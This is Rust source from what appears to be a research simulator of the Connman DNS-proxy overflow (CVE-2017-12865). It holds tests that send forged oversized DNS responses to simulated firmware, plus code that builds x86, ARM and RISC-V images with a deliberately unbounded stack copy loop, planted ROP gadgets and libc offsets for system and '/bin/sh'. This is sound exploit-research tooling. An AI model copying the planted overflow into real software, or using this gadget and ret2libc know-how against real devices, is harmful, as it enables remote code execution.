        for arch in Arch::ALL {
            let fw = Firmware::build(FirmwareKind::Patched, arch);
            let mut daemon = fw.boot(Protections::none(), 7);
            let name = Name::parse("update.example").unwrap();
            let Resolution::Query(qbytes) = daemon.resolve(&name, RecordType::A) else {
                panic!("cold cache");
            };
            let query = Message::decode(&qbytes).unwrap();
            let attack = ResponseForge::answering(&query)
                .with_chunked_payload(&[0x41; 1300])
                .unwrap()
                .build()
                .unwrap();
            let out = daemon.deliver_response(&attack);
            assert!(
                matches!(out, ProxyOutcome::ParseFailed { .. }),
                "{arch}: {out}"
            );
            assert!(daemon.is_running());
        }
    }

    fn attack_outcome(daemon: &mut Daemon) -> String {
        let name = Name::parse("update.example").unwrap();
        let Resolution::Query(qbytes) = daemon.resolve(&name, RecordType::A) else {
            panic!("cold cache");
        };
        let query = Message::decode(&qbytes).unwrap();
        let attack = ResponseForge::answering(&query)
            .with_chunked_payload(&[0x41; 1300])
            .unwrap()
            .build()
            .unwrap();
        format!("{:?}", daemon.deliver_response(&attack))
    }

    #[test]
    fn forked_boot_matches_fresh_boot() {
        for arch in Arch::ALL {
            let fw = Firmware::build(FirmwareKind::OpenElec, arch);
            let p = Protections::full().with_canary();
            let mut forge = fw.forge(p, 100);
            // Base seed (pure restore) and two reslid seeds.
            for seed in [100u64, 101, 202] {
                let mut fresh = fw.boot(p, seed);
                let forked = forge.fork(seed);
                assert_eq!(
                    forked.map().canary(),
                    fresh.map().canary(),
                    "{arch} seed {seed}"
                );
                let out_fork = attack_outcome(forked);
                let out_fresh = attack_outcome(&mut fresh);
                assert_eq!(out_fork, out_fresh, "{arch} seed {seed}");
            }
        }
    }

    #[test]
    fn fork_skips_daemon_init_instructions() {
        let fw = Firmware::build(FirmwareKind::OpenElec, Arch::X86);
        let mut forge = fw.forge(Protections::none(), 9);
        let booted = forge.fork(9).machine().insn_count();
        let _ = forge.fork(9);
        let after_second_fork = forge.fork(9).machine().insn_count();
        // Forking executes zero instructions; only the single boot paid
        // for daemon_init.
        assert_eq!(booted, after_second_fork);
        assert!(booted > 1000, "daemon_init ran at boot: {booted}");
    }

    #[test]
    fn shared_forge_spawns_match_local_forges() {
        // A forge spawned from the shared snapshot must fork the exact
        // machine a locally forged boot would — including across worker
        // handles whose dirty sets diverge between forks.
        for arch in Arch::ALL {
            let fw = Firmware::build(FirmwareKind::OpenElec, arch);
            let shared = SharedForge::new(&fw, Protections::full(), 0xA11CE);
            let mut local = fw.forge(Protections::full(), 0xA11CE);
            let mut a = shared.spawn();
            let mut b = shared.spawn();
            for seed in [0xA11CE, 0xD0_0D, 0xFEED] {
                let want = local.fork(seed).machine().regs().pc();
                assert_eq!(a.fork(seed).machine().regs().pc(), want, "{arch} {seed}");
                assert_eq!(b.fork(seed).machine().regs().pc(), want, "{arch} {seed}");
            }
        }
    }

    #[test]
    fn benign_traffic_works_on_all_profiles() {
        for kind in FirmwareKind::ALL {
            let fw = Firmware::build(kind, Arch::Armv7);
            let mut daemon = fw.boot(Protections::full(), 3);
            let name = Name::parse("time.example").unwrap();
            let Resolution::Query(qbytes) = daemon.resolve(&name, RecordType::A) else {
                panic!("cold cache");
            };
            let query = Message::decode(&qbytes).unwrap();
            let ok = ResponseForge::answering(&query)
                .with_payload_labels(vec![b"time".to_vec(), b"example".to_vec()])
                .unwrap()
                .build()
                .unwrap();
            assert_eq!(
                daemon.deliver_response(&ok),
                ProxyOutcome::Answered { cached: 1 }
            );
        }
    }
}
