//! Assembly of the simulated `connmand` binary image.
//!
//! The image is deterministic per architecture (firmware binaries do not
//! change between boots — only ASLR moves things, and that happens in
//! the loader). Program text mixes filler "functions" with the gadget
//! material the paper's exploits harvest with `ropper`/`ROPgadget`.

use cml_connman::{
    SYM_DAEMON_INIT, SYM_DAEMON_LOOP, SYM_FORWARD_DNS_REPLY, SYM_PARSE_RESPONSE, SYM_UNCOMPRESS,
};
use cml_image::{layout, Addr, Arch, Image, ImageBuilder, SectionKind, SymbolKind};
use cml_vm::{arm, riscv, x86, X86Reg};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// Ground-truth addresses of the deliberately planted gadgets.
///
/// Tests use these to validate the gadget *finder*; exploit strategies
/// never read them — they locate gadgets by scanning the image bytes,
/// as the paper does.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct GadgetAddrs {
    /// x86 `ret`.
    pub ret: Option<Addr>,
    /// x86 `pop ebx; pop esi; pop edi; ret`.
    pub pppr: Option<Addr>,
    /// x86 `pop ebx; pop esi; pop edi; pop ebp; ret` — the paper's
    /// argument-cleanup gadget for the memcpy chain.
    pub ppppr: Option<Addr>,
    /// x86 `pop ebp; ret`.
    pub pop_ebp_ret: Option<Addr>,
    /// x86 `add esp, 0xC; pop ebp; ret` (a memcpy-style epilogue).
    pub add_esp_pop_ret: Option<Addr>,
    /// ARM `pop {r0,r1,r2,r3,r5,r6,r7,pc}` — Listing 2's register loader.
    pub pop_r0_r7_pc: Option<Addr>,
    /// ARM `blx r3; add sp, sp, #4; pop {pc}` — the chain trampoline
    /// (Listing 5: the NULL word after `pc` is the "offset for blx").
    pub blx_r3_tramp: Option<Addr>,
    /// ARM `pop {r4, pc}`.
    pub pop_r4_pc: Option<Addr>,
    /// ARM `pop {r4-r11, pc}` (also `parse_response`'s real epilogue).
    pub pop_r4_r11_pc: Option<Addr>,
    /// RISC-V `lw a0/a1/a2/a3/ra, …(sp); addi sp, sp, 20; ret` — the
    /// register loader the rv32 chains enter through.
    pub lw_args_ret: Option<Addr>,
    /// RISC-V `c.jalr a3; lw ra, 0(sp); addi sp, sp, 4; ret` — the
    /// call-and-resume trampoline (the `blx r3` analogue).
    pub jalr_a3_tramp: Option<Addr>,
    /// RISC-V bare compressed `ret` (`c.jr ra`, parcel `0x8082`).
    pub rvc_ret: Option<Addr>,
    /// RISC-V `ret` parcel hidden *inside* a 4-byte `lui` — reachable
    /// only by 2-byte-granular scanning (the RVC misaligned surface).
    pub misaligned_ret: Option<Addr>,
}

/// libc link-time offsets (stable across the simulated distro).
mod libc_off {
    pub const SYSTEM: u32 = 0x3a940;
    pub const EXIT: u32 = 0x2e7b0;
    pub const MEMCPY: u32 = 0x74c00;
    pub const EXECVE: u32 = 0x726d0;
    pub const EXECLP: u32 = 0x72810;
    pub const STACK_CHK_FAIL: u32 = 0x84000;
    /// "/bin/sh" literal — the paper's ARM W⊕X exploit loads this
    /// address (`0x76d853e4` on their Pi; ours differs by libc build).
    pub const STR_BIN_SH: u32 = 0x853e4;
}

/// Strings placed in `.rodata`. Deliberately chosen so every character
/// of `/bin/sh` occurs *somewhere* (the `-memstr` harvest) without the
/// full string appearing in the program image.
const RODATA_STRINGS: &[&str] = &[
    "connmand starting",
    "dnsproxy: bad response",
    "wifi station joined network",
    "bound to interface",
    "/usr/lib/plugins",
    "hotplug event",
    "tethering disabled",
];

/// Builds the simulated Connman image for `arch`, returning the image
/// and the planted-gadget ground truth.
pub fn build_image(arch: Arch) -> (Image, GadgetAddrs) {
    build_image_variant(arch, 0)
}

/// Builds a *variant* of the firmware image: same symbols and layout
/// bases, different filler code and gadget placement — modelling a
/// different build of the same software (paper §V: the approach ports
/// with "minimal modification" because reconnaissance re-discovers all
/// addresses).
pub fn build_image_variant(arch: Arch, variant: u64) -> (Image, GadgetAddrs) {
    build_image_for(arch, variant, false)
}

/// Builds a firmware image variant with an explicit `parse_response`
/// body flavour.
///
/// When `bounds_checked` is `false` the emitted copy loop reproduces the
/// CVE-2017-12865 defect: packet bytes stream into a fixed-size stack
/// buffer and the only loop exit tests the (attacker-controlled) data
/// itself. When `true` the loop additionally compares an untainted
/// counter against the buffer capacity (`0x400`) before every store —
/// the Connman 1.35 fix. The bodies are what `cml-analyze`'s CFG/taint
/// passes inspect; the daemon models the parse natively either way.
pub fn build_image_for(arch: Arch, variant: u64, bounds_checked: bool) -> (Image, GadgetAddrs) {
    let l = layout::layout_for(arch);
    let mut b = ImageBuilder::new(arch);
    b.section_default(SectionKind::Text, l.text_base, 0x8000);
    b.section_default(SectionKind::Plt, l.plt_base, 0x200);
    b.section_default(SectionKind::Got, l.got_base, 0x100);
    b.section_default(SectionKind::Rodata, l.rodata_base, 0x1000);
    b.section_default(SectionKind::Data, l.data_base, 0x1000);
    b.section_default(SectionKind::Bss, l.bss_base, 0x2000);
    b.section_default(SectionKind::Heap, l.heap_base, 0x4000);
    b.section_default(SectionKind::Libc, l.libc_base, 0xA0000);
    b.section_default(SectionKind::Stack, l.stack_top - l.stack_size, l.stack_size);

    let mut gadgets = GadgetAddrs::default();
    match arch {
        Arch::X86 => build_x86_text(&mut b, &mut gadgets, variant, bounds_checked),
        Arch::Armv7 => build_arm_text(&mut b, &mut gadgets, variant, bounds_checked),
        Arch::Riscv => build_riscv_text(&mut b, &mut gadgets, variant, bounds_checked),
    }
    build_plt_got(&mut b, arch, l.got_base, l.libc_base);
    build_rodata(&mut b);
    build_libc(&mut b, arch, l.libc_base);
    b.symbol("__bss_start", l.bss_base, 0, SymbolKind::Marker);

    (
        b.build()
            .expect("firmware layout is disjoint and symbol-complete"),
        gadgets,
    )
}

fn build_x86_text(b: &mut ImageBuilder, g: &mut GadgetAddrs, variant: u64, bounds_checked: bool) {
    let mut rng = StdRng::seed_from_u64(0xC0FF_EE00 ^ variant.wrapping_mul(0x9E37_79B9));
    let shift = (variant % 5) as usize;
    // _start-ish preamble.
    b.append_code(SectionKind::Text, &x86::Asm::new().nop().nop().finish());

    // daemon_loop: an idle loop the legitimate return lands in.
    let loop_addr = b.append_code(
        SectionKind::Text,
        &x86::Asm::new().nop().nop().jmp_rel8(-4).finish(),
    );
    b.symbol(SYM_DAEMON_LOOP, loop_addr, 4, SymbolKind::Function);

    // daemon_init: one-time boot work (config parse, plugin scan, …)
    // modelled as a pure-register countdown. Runs once per boot; the
    // snapshot/fork path executes it exactly once per firmware profile.
    let init = x86::Asm::new()
        .mov_r_imm(X86Reg::Ecx, 1536)
        .dec_r(X86Reg::Ecx) // loop:
        .jnz_rel8(-3) // -> loop
        .ret()
        .finish();
    let init_size = init.len() as u32;
    let init_addr = b.append_code(SectionKind::Text, &init);
    b.symbol(SYM_DAEMON_INIT, init_addr, init_size, SymbolKind::Function);

    // parse_response: prologue/epilogue around a `get_name`-style copy
    // loop. The daemon models the parse natively (cml-connman); these
    // bytes exist so static analysis sees the same defect the paper
    // exploits — esi walks the packet, edi walks the 1024-byte name
    // buffer at the bottom of a 0x40C-byte frame (8 locals + canary
    // slot above it, so buf→saved-ret is the real 1040 bytes). The
    // store sits *before* the terminator test (strcpy shape), so the
    // static write count for an N-byte name is N+1 — byte-identical to
    // the daemon's model — and the vulnerable flavour's only loop exit
    // tests packet data.
    let body = if bounds_checked {
        // 1.35: `xor ecx,ecx; mov edx,0x400` seeds an untainted counter
        // checked against the capacity before every store.
        x86::Asm::new()
            .push_r(X86Reg::Ebp)
            .mov_rr(X86Reg::Ebp, X86Reg::Esp)
            .sub_r_imm32(X86Reg::Esp, 0x40C)
            .mov_r_mem(X86Reg::Esi, X86Reg::Ebp, 8)
            .lea_disp32(X86Reg::Edi, X86Reg::Ebp, -0x40C)
            .xor_rr(X86Reg::Ecx, X86Reg::Ecx)
            .mov_r_imm(X86Reg::Edx, 0x400)
            .mov_r_mem(X86Reg::Eax, X86Reg::Esi, 0) // loop:
            .cmp_rr(X86Reg::Ecx, X86Reg::Edx)
            .jz_rel8(10) // -> done (capacity reached)
            .mov_mem_r(X86Reg::Edi, 0, X86Reg::Eax)
            .inc_r(X86Reg::Esi)
            .inc_r(X86Reg::Edi)
            .inc_r(X86Reg::Ecx)
            .test_rr(X86Reg::Eax, X86Reg::Eax)
            .jnz_rel8(-17) // -> loop
            .leave() // done:
            .ret()
            .finish()
    } else {
        x86::Asm::new()
            .push_r(X86Reg::Ebp)
            .mov_rr(X86Reg::Ebp, X86Reg::Esp)
            .sub_r_imm32(X86Reg::Esp, 0x40C)
            .mov_r_mem(X86Reg::Esi, X86Reg::Ebp, 8)
            .lea_disp32(X86Reg::Edi, X86Reg::Ebp, -0x40C)
            .mov_r_mem(X86Reg::Eax, X86Reg::Esi, 0) // loop:
            .mov_mem_r(X86Reg::Edi, 0, X86Reg::Eax)
            .inc_r(X86Reg::Esi)
            .inc_r(X86Reg::Edi)
            .test_rr(X86Reg::Eax, X86Reg::Eax)
            .jnz_rel8(-12) // -> loop
            .leave() // done:
            .ret()
            .finish()
    };
    let size = body.len() as u32;
    let parse_addr = b.append_code(SectionKind::Text, &body);
    b.symbol(SYM_PARSE_RESPONSE, parse_addr, size, SymbolKind::Function);

    // The real CVE-2017-12865 call path, forward_dns_reply → uncompress
    // → parse_response, planted as *static* material: nothing branches
    // here at run time (the daemon parses natively), but the analyzer's
    // call graph and interprocedural taint propagation walk exactly
    // this chain — attacker bytes enter at forward_dns_reply and reach
    // the copy loop two calls down. Each hop loads its pointer argument
    // and pushes it for the callee; uncompress returns a constant
    // status, which call summaries propagate to its caller.
    let unc_pre = x86::Asm::new()
        .push_r(X86Reg::Ebp)
        .mov_rr(X86Reg::Ebp, X86Reg::Esp)
        .mov_r_mem(X86Reg::Eax, X86Reg::Ebp, 8)
        .push_r(X86Reg::Eax)
        .finish();
    let unc_addr = b.append_code(SectionKind::Text, &unc_pre);
    let call_end = unc_addr + unc_pre.len() as u32 + 5;
    let unc_rest = x86::Asm::new()
        .call_rel32(parse_addr.wrapping_sub(call_end) as i32)
        .add_r_imm8(X86Reg::Esp, 4)
        .xor_rr(X86Reg::Eax, X86Reg::Eax)
        .leave()
        .ret()
        .finish();
    b.append_code(SectionKind::Text, &unc_rest);
    b.symbol(
        SYM_UNCOMPRESS,
        unc_addr,
        (unc_pre.len() + unc_rest.len()) as u32,
        SymbolKind::Function,
    );

    let fwd_pre = x86::Asm::new()
        .push_r(X86Reg::Ebp)
        .mov_rr(X86Reg::Ebp, X86Reg::Esp)
        .mov_r_mem(X86Reg::Eax, X86Reg::Ebp, 8)
        .push_r(X86Reg::Eax)
        .finish();
    let fwd_addr = b.append_code(SectionKind::Text, &fwd_pre);
    let call_end = fwd_addr + fwd_pre.len() as u32 + 5;
    let fwd_rest = x86::Asm::new()
        .call_rel32(unc_addr.wrapping_sub(call_end) as i32)
        .add_r_imm8(X86Reg::Esp, 4)
        .leave()
        .ret()
        .finish();
    b.append_code(SectionKind::Text, &fwd_rest);
    b.symbol(
        SYM_FORWARD_DNS_REPLY,
        fwd_addr,
        (fwd_pre.len() + fwd_rest.len()) as u32,
        SymbolKind::Function,
    );

    // Filler + gadget pool, interleaved the way optimized epilogues pepper
    // a real binary.
    for i in 0usize..40 {
        filler_fn_x86(b, &mut rng);
        match i.wrapping_sub(shift) {
            6 => {
                g.pppr = Some(
                    b.append_code(
                        SectionKind::Text,
                        &x86::Asm::new()
                            .pop_r(X86Reg::Ebx)
                            .pop_r(X86Reg::Esi)
                            .pop_r(X86Reg::Edi)
                            .ret()
                            .finish(),
                    ),
                )
            }
            11 => {
                g.add_esp_pop_ret = Some(
                    b.append_code(
                        SectionKind::Text,
                        &x86::Asm::new()
                            .add_r_imm8(X86Reg::Esp, 0x0C)
                            .pop_r(X86Reg::Ebp)
                            .ret()
                            .finish(),
                    ),
                )
            }
            17 => {
                g.ppppr = Some(
                    b.append_code(
                        SectionKind::Text,
                        &x86::Asm::new()
                            .pop_r(X86Reg::Ebx)
                            .pop_r(X86Reg::Esi)
                            .pop_r(X86Reg::Edi)
                            .pop_r(X86Reg::Ebp)
                            .ret()
                            .finish(),
                    ),
                )
            }
            23 => {
                g.pop_ebp_ret = Some(b.append_code(
                    SectionKind::Text,
                    &x86::Asm::new().pop_r(X86Reg::Ebp).ret().finish(),
                ))
            }
            29 => g.ret = Some(b.append_code(SectionKind::Text, &x86::Asm::new().ret().finish())),
            _ => {}
        }
    }
}

fn filler_fn_x86(b: &mut ImageBuilder, rng: &mut StdRng) {
    let mut a = x86::Asm::new()
        .push_r(X86Reg::Ebp)
        .mov_rr(X86Reg::Ebp, X86Reg::Esp);
    for _ in 0..rng.gen_range(2..8) {
        a = match rng.gen_range(0..5) {
            0 => a.nop(),
            1 => a.mov_r_imm(X86Reg::Eax, rng.gen()),
            2 => a.xor_rr(X86Reg::Ecx, X86Reg::Ecx),
            3 => a.inc_r(X86Reg::Edx),
            _ => a.push_imm(rng.gen()),
        };
    }
    let code = a
        .mov_rr(X86Reg::Esp, X86Reg::Ebp)
        .pop_r(X86Reg::Ebp)
        .ret()
        .finish();
    b.append_code(SectionKind::Text, &code);
}

fn build_arm_text(b: &mut ImageBuilder, g: &mut GadgetAddrs, variant: u64, bounds_checked: bool) {
    let mut rng = StdRng::seed_from_u64(0xC0FF_EE01 ^ variant.wrapping_mul(0x9E37_79B9));
    let shift = (variant % 5) as usize;
    b.append_code(SectionKind::Text, &arm::Asm::new().mov_reg(1, 1).finish());

    let loop_addr = b.append_code(
        SectionKind::Text,
        // mov r1, r1; b .-4 (offset −12 relative to pc+8).
        &arm::Asm::new().mov_reg(1, 1).b(-12).finish(),
    );
    b.symbol(SYM_DAEMON_LOOP, loop_addr, 8, SymbolKind::Function);

    // daemon_init: see build_x86_text. Branch offset is relative to
    // pc+8: from the `bne` at +12 back to the `sub` at +4 is −16.
    let init = arm::Asm::new()
        .mov_imm(0, 0x600)
        .sub_imm(0, 0, 1) // loop:
        .cmp_imm(0, 0)
        .bne(-16) // -> loop
        .bx(14)
        .finish();
    let init_size = init.len() as u32;
    let init_addr = b.append_code(SectionKind::Text, &init);
    b.symbol(SYM_DAEMON_INIT, init_addr, init_size, SymbolKind::Function);

    // parse_response: r2 walks the packet (arg in r0), r3 walks the
    // 1024-byte name buffer at the bottom of the 0x410-byte frame
    // carved by `sub sp, sp, #0x410` (null-check slots, canary and pad
    // above it; with the 8 callee-saved registers pushed under lr the
    // buf→saved-ret distance is the real 1072 bytes). The store sits
    // before the terminator test (strcpy shape), so an N-byte name
    // writes N+1 bytes — byte-identical to the daemon's model. Branch
    // offsets are relative to pc+8, in bytes. See build_x86_text for
    // the flavour semantics.
    let body = if bounds_checked {
        arm::Asm::new()
            .push(&[4, 5, 6, 7, 8, 9, 10, 11, 14])
            .sub_imm(13, 13, 0x410)
            .mov_reg(2, 0)
            .mov_reg(3, 13)
            .mov_imm(7, 0)
            .ldrb(5, 2, 0) // loop:
            .cmp_imm(7, 0x400)
            .beq(20) // -> done (capacity reached)
            .strb(5, 3, 0)
            .add_imm(2, 2, 1)
            .add_imm(3, 3, 1)
            .add_imm(7, 7, 1)
            .cmp_imm(5, 0)
            .bne(-40) // -> loop
            .add_imm(13, 13, 0x410) // done:
            .finish()
    } else {
        arm::Asm::new()
            .push(&[4, 5, 6, 7, 8, 9, 10, 11, 14])
            .sub_imm(13, 13, 0x410)
            .mov_reg(2, 0)
            .mov_reg(3, 13)
            .ldrb(5, 2, 0) // loop:
            .strb(5, 3, 0)
            .add_imm(2, 2, 1)
            .add_imm(3, 3, 1)
            .cmp_imm(5, 0)
            .bne(-28) // -> loop
            .add_imm(13, 13, 0x410) // done:
            .finish()
    };
    // The symbol span includes the epilogue below, so CFG recovery sees
    // the function terminate at the `pop {.., pc}` return.
    let size = body.len() as u32 + 4;
    let parse_addr = b.append_code(SectionKind::Text, &body);
    b.symbol(SYM_PARSE_RESPONSE, parse_addr, size, SymbolKind::Function);
    // parse_response's own epilogue doubles as a gadget.
    g.pop_r4_r11_pc = Some(
        b.append_code(
            SectionKind::Text,
            &arm::Asm::new()
                .pop(&[4, 5, 6, 7, 8, 9, 10, 11, 15])
                .finish(),
        ),
    );

    // The static CVE call chain (see build_x86_text): forward_dns_reply
    // → uncompress → parse_response, never executed, analyzed. The
    // reply pointer rides r0 untouched into each callee; uncompress
    // returns a constant status after the call.
    let unc_pre = arm::Asm::new().push(&[4, 14]).finish();
    let unc_addr = b.append_code(SectionKind::Text, &unc_pre);
    let unc_rest = arm::Asm::new()
        .bl(parse_addr.wrapping_sub(unc_addr + 4 + 8) as i32)
        .mov_imm(0, 0)
        .pop(&[4, 15])
        .finish();
    b.append_code(SectionKind::Text, &unc_rest);
    b.symbol(
        SYM_UNCOMPRESS,
        unc_addr,
        (unc_pre.len() + unc_rest.len()) as u32,
        SymbolKind::Function,
    );

    let fwd_pre = arm::Asm::new().push(&[4, 14]).finish();
    let fwd_addr = b.append_code(SectionKind::Text, &fwd_pre);
    let fwd_rest = arm::Asm::new()
        .bl(unc_addr.wrapping_sub(fwd_addr + 4 + 8) as i32)
        .pop(&[4, 15])
        .finish();
    b.append_code(SectionKind::Text, &fwd_rest);
    b.symbol(
        SYM_FORWARD_DNS_REPLY,
        fwd_addr,
        (fwd_pre.len() + fwd_rest.len()) as u32,
        SymbolKind::Function,
    );

    for i in 0usize..40 {
        filler_fn_arm(b, &mut rng);
        match i.wrapping_sub(shift) {
            7 => {
                g.pop_r0_r7_pc = Some(b.append_code(
                    SectionKind::Text,
                    &arm::Asm::new().pop(&[0, 1, 2, 3, 5, 6, 7, 15]).finish(),
                ))
            }
            13 => {
                g.blx_r3_tramp = Some(
                    b.append_code(
                        SectionKind::Text,
                        &arm::Asm::new()
                            .blx(3)
                            .add_imm(13, 13, 4)
                            .pop(&[15])
                            .finish(),
                    ),
                )
            }
            19 => {
                g.pop_r4_pc =
                    Some(b.append_code(SectionKind::Text, &arm::Asm::new().pop(&[4, 15]).finish()))
            }
            _ => {}
        }
    }
}

fn filler_fn_arm(b: &mut ImageBuilder, rng: &mut StdRng) {
    let mut a = arm::Asm::new().push(&[4, 14]);
    for _ in 0..rng.gen_range(2..8) {
        a = match rng.gen_range(0..4) {
            0 => a.mov_reg(1, 1),
            1 => a.mov_imm(0, rng.gen_range(0..255)),
            2 => a.add_imm(2, 2, 4),
            _ => a.cmp_imm(0, 0),
        };
    }
    b.append_code(SectionKind::Text, &a.pop(&[4, 15]).finish());
}

fn build_riscv_text(b: &mut ImageBuilder, g: &mut GadgetAddrs, variant: u64, bounds_checked: bool) {
    let mut rng = StdRng::seed_from_u64(0xC0FF_EE02 ^ variant.wrapping_mul(0x9E37_79B9));
    let shift = (variant % 5) as usize;
    b.append_code(
        SectionKind::Text,
        &riscv::Asm::new().c_nop().c_nop().finish(),
    );

    // daemon_loop: c.nop; c.j .-2.
    let loop_addr = b.append_code(
        SectionKind::Text,
        &riscv::Asm::new().c_nop().c_j(-2).finish(),
    );
    b.symbol(SYM_DAEMON_LOOP, loop_addr, 4, SymbolKind::Function);

    // daemon_init: see build_x86_text. The branch offset is relative to
    // the branch instruction itself on RISC-V.
    let init = riscv::Asm::new()
        .addi(10, 0, 0x600)
        .addi(10, 10, -1) // loop:
        .bne(10, 0, -4) // -> loop
        .c_ret()
        .finish();
    let init_size = init.len() as u32;
    let init_addr = b.append_code(SectionKind::Text, &init);
    b.symbol(SYM_DAEMON_INIT, init_addr, init_size, SymbolKind::Function);

    // parse_response: a2 walks the packet (arg in a0), a3 walks the
    // 1024-byte name buffer at the bottom of the 0x424-byte frame. ra is
    // spilled at sp+0x420, so buf→saved-ret is the real 1056 bytes
    // (pad 8 + canary 4 + pad 4 + s0-s3 above the buffer). The store
    // sits before the terminator test (strcpy shape), so an N-byte name
    // writes N+1 bytes — byte-identical to the daemon's model. See
    // build_x86_text for the flavour semantics.
    let body = if bounds_checked {
        riscv::Asm::new()
            .addi(2, 2, -0x424)
            .sw(1, 2, 0x420)
            .sw(8, 2, 0x410)
            .sw(9, 2, 0x414)
            .addi(12, 10, 0)
            .addi(13, 2, 0)
            .addi(14, 0, 0) // untainted counter
            .addi(16, 0, 0x400) // capacity
            .lbu(15, 12, 0) // loop:
            .beq(14, 16, 24) // -> done (capacity reached)
            .sb(15, 13, 0)
            .addi(12, 12, 1)
            .addi(13, 13, 1)
            .addi(14, 14, 1)
            .bne(15, 0, -24) // -> loop
            .lw(1, 2, 0x420) // done:
            .lw(8, 2, 0x410)
            .lw(9, 2, 0x414)
            .addi(2, 2, 0x424)
            .c_ret()
            .finish()
    } else {
        riscv::Asm::new()
            .addi(2, 2, -0x424)
            .sw(1, 2, 0x420)
            .sw(8, 2, 0x410)
            .sw(9, 2, 0x414)
            .addi(12, 10, 0)
            .addi(13, 2, 0)
            .lbu(15, 12, 0) // loop:
            .sb(15, 13, 0)
            .addi(12, 12, 1)
            .addi(13, 13, 1)
            .bne(15, 0, -16) // -> loop
            .lw(1, 2, 0x420) // done:
            .lw(8, 2, 0x410)
            .lw(9, 2, 0x414)
            .addi(2, 2, 0x424)
            .c_ret()
            .finish()
    };
    let size = body.len() as u32;
    let parse_addr = b.append_code(SectionKind::Text, &body);
    b.symbol(SYM_PARSE_RESPONSE, parse_addr, size, SymbolKind::Function);

    // The static CVE call chain (see build_x86_text): forward_dns_reply
    // → uncompress → parse_response, never executed, analyzed. The
    // reply pointer rides a0 untouched into each callee; uncompress
    // returns a constant status after the call.
    let unc_pre = riscv::Asm::new().addi(2, 2, -16).sw(1, 2, 12).finish();
    let unc_addr = b.append_code(SectionKind::Text, &unc_pre);
    let jal_at = unc_addr + unc_pre.len() as u32;
    let unc_rest = riscv::Asm::new()
        .jal(1, parse_addr.wrapping_sub(jal_at) as i32)
        .addi(10, 0, 0)
        .lw(1, 2, 12)
        .addi(2, 2, 16)
        .c_ret()
        .finish();
    b.append_code(SectionKind::Text, &unc_rest);
    b.symbol(
        SYM_UNCOMPRESS,
        unc_addr,
        (unc_pre.len() + unc_rest.len()) as u32,
        SymbolKind::Function,
    );

    let fwd_pre = riscv::Asm::new().addi(2, 2, -16).sw(1, 2, 12).finish();
    let fwd_addr = b.append_code(SectionKind::Text, &fwd_pre);
    let jal_at = fwd_addr + fwd_pre.len() as u32;
    let fwd_rest = riscv::Asm::new()
        .jal(1, unc_addr.wrapping_sub(jal_at) as i32)
        .lw(1, 2, 12)
        .addi(2, 2, 16)
        .c_ret()
        .finish();
    b.append_code(SectionKind::Text, &fwd_rest);
    b.symbol(
        SYM_FORWARD_DNS_REPLY,
        fwd_addr,
        (fwd_pre.len() + fwd_rest.len()) as u32,
        SymbolKind::Function,
    );

    for i in 0usize..40 {
        filler_fn_riscv(b, &mut rng);
        match i.wrapping_sub(shift) {
            5 => {
                g.lw_args_ret = Some(
                    b.append_code(
                        SectionKind::Text,
                        &riscv::Asm::new()
                            .lw(10, 2, 0)
                            .lw(11, 2, 4)
                            .lw(12, 2, 8)
                            .lw(13, 2, 12)
                            .lw(1, 2, 16)
                            .addi(2, 2, 20)
                            .c_ret()
                            .finish(),
                    ),
                )
            }
            13 => {
                g.jalr_a3_tramp = Some(
                    b.append_code(
                        SectionKind::Text,
                        &riscv::Asm::new()
                            .c_jalr(13)
                            .lw(1, 2, 0)
                            .addi(2, 2, 4)
                            .c_ret()
                            .finish(),
                    ),
                )
            }
            19 => {
                g.rvc_ret =
                    Some(b.append_code(SectionKind::Text, &riscv::Asm::new().c_ret().finish()))
            }
            27 => {
                // `lui a0, 0x80820000`: the upper parcel of the word is
                // 0x8082 = `c.jr ra`, so a 2-byte-stride scan finds a
                // `ret` two bytes *inside* this 4-byte instruction.
                let w = b.append_code(
                    SectionKind::Text,
                    &riscv::Asm::new().lui(10, 0x8082_0000).finish(),
                );
                g.misaligned_ret = Some(w + 2);
            }
            _ => {}
        }
    }
}

fn filler_fn_riscv(b: &mut ImageBuilder, rng: &mut StdRng) {
    let mut a = riscv::Asm::new().addi(2, 2, -16).sw(1, 2, 12);
    for _ in 0..rng.gen_range(2..8) {
        a = match rng.gen_range(0..4) {
            0 => a.c_nop(),
            1 => a.addi(10, 0, rng.gen_range(0..256)),
            2 => a.c_mv(11, 10),
            _ => a.add(12, 12, 13),
        };
    }
    b.append_code(
        SectionKind::Text,
        &a.lw(1, 2, 12).addi(2, 2, 16).c_ret().finish(),
    );
}

fn build_plt_got(b: &mut ImageBuilder, arch: Arch, got_base: Addr, libc_base: Addr) {
    // Two PLT entries, as in the paper: memcpy@plt and execlp@plt. The
    // loader hooks the stub addresses directly (modelling a resolved
    // GOT), but the stubs carry plausible bytes and the GOT holds the
    // link-time libc addresses.
    let entries: [(&str, u32); 2] = [
        ("memcpy@plt", libc_off::MEMCPY),
        ("execlp@plt", libc_off::EXECLP),
    ];
    for (i, (name, off)) in entries.iter().enumerate() {
        let got_slot = got_base + 4 * i as Addr;
        let stub = match arch {
            Arch::X86 => b.append_code(
                SectionKind::Plt,
                &x86::Asm::new().jmp_abs_mem(got_slot).nop().nop().finish(),
            ),
            Arch::Armv7 => {
                // Real stubs are `add ip, pc; ldr pc, [ip]`; ours is a
                // placeholder body since the hook fires on entry.
                b.append_code(
                    SectionKind::Plt,
                    &arm::Asm::new().mov_reg(12, 12).bx(14).finish(),
                )
            }
            Arch::Riscv => {
                // Real stubs are `auipc t3; lw t3, …; jalr t1, t3`; a
                // placeholder again, since the hook fires on entry.
                b.append_code(
                    SectionKind::Plt,
                    &riscv::Asm::new()
                        .c_mv(28, 28)
                        .c_mv(28, 28)
                        .c_nop()
                        .c_ret()
                        .finish(),
                )
            }
        };
        b.symbol(*name, stub, 8, SymbolKind::PltEntry);
        b.append_code(SectionKind::Got, &(libc_base + off).to_le_bytes());
    }
}

fn build_rodata(b: &mut ImageBuilder) {
    for s in RODATA_STRINGS {
        b.append_code(SectionKind::Rodata, s.as_bytes());
        b.append_code(SectionKind::Rodata, &[0]);
    }
}

fn build_libc(b: &mut ImageBuilder, arch: Arch, libc_base: Addr) {
    let fns: [(&str, u32); 6] = [
        ("system", libc_off::SYSTEM),
        ("exit", libc_off::EXIT),
        ("memcpy", libc_off::MEMCPY),
        ("execve", libc_off::EXECVE),
        ("execlp", libc_off::EXECLP),
        ("__stack_chk_fail", libc_off::STACK_CHK_FAIL),
    ];
